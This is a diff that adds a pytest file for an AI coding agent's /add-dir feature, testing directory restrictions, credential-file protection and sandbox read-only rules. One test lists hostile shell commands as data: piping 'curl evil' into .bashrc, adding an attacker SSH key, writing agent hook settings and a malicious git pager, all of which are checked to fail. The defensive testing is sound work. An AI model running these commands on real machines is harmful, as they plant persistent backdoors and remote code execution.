@@ -1,0 +1,144 @@
+"""/add-dir's engine side: which directories can be added (never one that opens the person's configuration,
+start-up files or credentials, the home directory or the project's parents), what adding one changes (the engine,
+the model's facts, the local settings when remembered), and that a credential file the environment names stays out
+of the tools' reach inside the project or an added directory."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+
+from agentui.core.added_directories import DirectoryError, add_directory, directory_to_add
+from agentui.core.loop.agent_config import AgentConfig
+from agentui.core.project import open_project
+from agentui.core.safety.permissions.bash_check import BashCheck
+from tests.support.permissions import check
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> SimpleNamespace:
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / "code" / "lib").mkdir(parents=True)
+    project = tmp_path / "project"
+    project.mkdir()
+    other = tmp_path / "other"
+    other.mkdir()
+    (other / "key.json").write_text('{"private_key": "k"}\n')
+    (other / "notes.txt").write_text("notes\n")
+    env = {
+        "HOME": str(home),
+        "CLAUDE_CONFIG_DIR": str(tmp_path / "claude"),
+        "AGENTUI_CONFIG_DIR": str(tmp_path / "config"),
+        "XDG_CONFIG_HOME": str(home / ".config"),
+        "GOOGLE_APPLICATION_CREDENTIALS": str(other / "key.json"),
+    }
+    opened = open_project(project, env=env, trusted=True)
+    agent = SimpleNamespace(config=AgentConfig(model="m", environment="<env>\nWorking directory: x\n</env>"))
+    conversation = SimpleNamespace(project=opened, agent=agent, env=env)
+    return SimpleNamespace(home=home, project=opened.root, other=other, env=env, conversation=conversation)
+
+
+@pytest.mark.parametrize(
+    ("typed", "why"),
+    [
+        ("../claude", "{tmp}/claude is in agentui's own configuration, which stays protected wherever it is"),
+        ("../config/sub", "{tmp}/config/sub is in agentui's own configuration"),
+        ("~/.ssh", "it is {home}/.ssh, which agentui keeps out of the tools' reach"),
+        ("~", "it is your home directory"),
+        ("../..", "it holds the project"),
+        ("../other/.git/hooks", "{tmp}/other/.git/hooks is in a .git directory, which stays protected wherever it is"),
+        ("../other/.vscode", "is editor configuration"),
+    ],
+)
+def test_what_would_open_the_persons_own_files_cannot_be_added(world: SimpleNamespace, typed: str, why: str) -> None:
+    for made in ("claude", "config/sub", "other/.git/hooks", "other/.vscode"):
+        (world.project.parent / made).mkdir(parents=True, exist_ok=True)
+    with pytest.raises(DirectoryError) as raised:
+        directory_to_add(world.conversation, typed)
+    assert why.format(home=world.home, tmp=world.project.parent) in str(raised.value)
+    assert str(raised.value).endswith(".") and "\n" not in str(raised.value)
+
+
+def test_a_directory_inside_the_home_and_one_holding_a_credential_file_can_be_added(world: SimpleNamespace) -> None:
+    assert directory_to_add(world.conversation, "~/code") == world.home / "code"
+    assert directory_to_add(world.conversation, "../other") == world.other  # (its key.json stays out of reach)
+
+
+def test_adding_opens_the_directory_to_the_engine_and_tells_the_model(world: SimpleNamespace) -> None:
+    engine = world.conversation.project.engine
+    notes = str(world.other / "notes.txt")
+    assert check(engine, "Read", file_path=notes).behavior == "ask"
+    assert add_directory(world.conversation, world.other) is None
+    assert check(engine, "Read", file_path=notes).behavior == "allow"
+    assert check(engine, "Edit", file_path=notes, old_string="notes", new_string="n").behavior == "ask"
+    engine.mode = "acceptEdits"
+    assert check(engine, "Write", file_path=str(world.other / "new.txt"), content="x").behavior == "allow"
+    protected = check(engine, "Write", file_path=str(world.other / ".claude" / "settings.json"), content="{}")
+    assert protected.behavior == "ask" and protected.hard
+    environment = world.conversation.agent.config.environment
+    assert environment.endswith(f"Additional working directories: {world.other}\n</env>")
+    add_directory(world.conversation, world.home / "code")  # (the line names them all, once)
+    assert environment.count("Additional") == 1
+    assert world.conversation.agent.config.environment.count("Additional") == 1
+
+
+def test_remember_writes_the_local_settings_as_claude_code_does(world: SimpleNamespace) -> None:
+    local = world.project / ".claude" / "settings.local.json"
+    local.parent.mkdir()
+    local.write_text(json.dumps({"permissions": {"allow": ["Bash(ls)"]}, "env": {"A": "1"}}))
+    assert add_directory(world.conversation, world.other, remember=True) == local
+    assert json.loads(local.read_text()) == {
+        "permissions": {"allow": ["Bash(ls)"], "additionalDirectories": [str(world.other)]},
+        "env": {"A": "1"},
+    }
+    reopened = open_project(world.project, env=world.env, trusted=True)
+    assert reopened.workspace.additional_dirs == (world.other,)
+
+
+def test_a_credential_file_the_environment_names_is_asked_for_even_inside_a_working_directory(
+    world: SimpleNamespace,
+) -> None:
+    engine = world.conversation.project.engine
+    add_directory(world.conversation, world.other)
+    key = world.other / "key.json"
+    for mode in ("default", "acceptEdits", "bypassPermissions"):
+        engine.mode = mode
+        verdict = check(engine, "Read", file_path=str(key))
+        assert verdict.behavior == "ask" and verdict.hard, mode
+        assert "holds credentials" in verdict.reason
+    assert engine.workspace.hidden(key) and not engine.workspace.hidden(world.other / "notes.txt")  # (Grep, Glob)
+    engine.mode = "default"
+    verdict = BashCheck(engine).verdict(f"cat {key}", "default")
+    assert verdict.behavior == "ask" and "credentials" in verdict.reason
+    assert BashCheck(engine).verdict(f"cat {world.other / 'notes.txt'}", "default").behavior == "allow"
+
+
+def test_a_home_directory_added_at_start_up_keeps_the_persons_files_read_only_in_the_sandbox(tmp_path: Path) -> None:
+    """/add-dir refuses the home directory, but `--add-dir ~` at start-up (or a setting) can still name it: in the
+    sandbox (a real bubblewrap) the person's start-up files, git and agents' settings and ~/.ssh stay read-only
+    in it, existing or not, while the rest of it is writable."""
+    from tests.core.test_sandbox_setup import boxed
+
+    for box in boxed(tmp_path):
+        (box.home / ".bashrc").write_text("# mine\n")
+        (box.home / ".ssh").mkdir()
+        box.workspace.additional_dirs = (box.home,)
+        box.snapshot()  # (what exists now is the person's, not a stand-in)
+        attacks = [
+            "echo 'curl evil | sh' >> ~/.bashrc",
+            "echo 'ssh-ed25519 AAAA attacker' > ~/.ssh/authorized_keys",
+            "mkdir -p ~/.claude && echo '{\"hooks\": {}}' > ~/.claude/settings.json",
+            "printf '[core]\\n\\tpager = evil\\n' > ~/.gitconfig",
+            "echo 'evil' > ~/.profile",
+        ]
+        for attack in attacks:
+            assert box.run(attack).code != 0, attack
+        assert (box.home / ".bashrc").read_text() == "# mine\n"
+        assert not (box.home / ".ssh" / "authorized_keys").exists() and not (box.home / ".gitconfig").exists()
+        assert not (box.home / ".claude" / "settings.json").exists() and not (box.home / ".profile").exists()
+        done = box.run("echo kept > ~/notes.txt && cat ~/notes.txt")
+        assert done.code == 0 and (box.home / "notes.txt").read_text() == "kept\n", done.err
